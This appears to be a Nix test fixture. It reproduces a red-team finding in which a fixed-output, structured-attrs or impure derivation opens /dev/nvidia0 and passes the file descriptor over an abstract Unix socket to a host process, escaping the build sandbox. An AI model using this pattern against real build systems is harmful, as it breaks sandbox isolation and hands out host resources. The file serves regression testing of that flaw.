# A tagged build that Nix runs in the host's network namespace, handing its GPU to a host
# process, as a red-team pass demonstrated: it opens /dev/nvidia0, listens on the abstract
# Unix socket `socket` and sends the descriptor (`SCM_RIGHTS`) to the host process that
# connects, with the program `sendFd` (bound into the sandbox), then ends normally. `kind` is
# `fixed` (a fixed-output derivation: `outputHash`, here of the empty file it writes),
# `structured` (the same in structured attrs, whose `.attrs.sh` names the output) or `impure`
# (`__impure`, with the experimental feature impure-derivations).
{
  nonce,
  kind,
  sendFd,
  socket,
}:
let
  fixed = {
    outputHashMode = "flat";
    outputHashAlgo = "sha256";
    outputHash = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
  };
in
derivation (
  {
    name = "unsandboxed-gpu-${nonce}";
    system = builtins.currentSystem;
    builder = "/bin/bash";
    requiredSystemFeatures = [ "cuda" ];
    args = [
      "-c"
      ''
        if [ -z "''${out:-}" ]; then
          . "''${NIX_ATTRS_SH_FILE:-$NIX_BUILD_TOP/.attrs.sh}"
          out=''${outputs[out]}
        fi
        ${sendFd} /dev/nvidia0 ${socket} && : > "$out"
      ''
    ];
  }
  // {
    inherit fixed;
    structured = fixed // {
      __structuredAttrs = true;
    };
    impure = {
      __impure = true;
    };
  }
  .${kind}
)
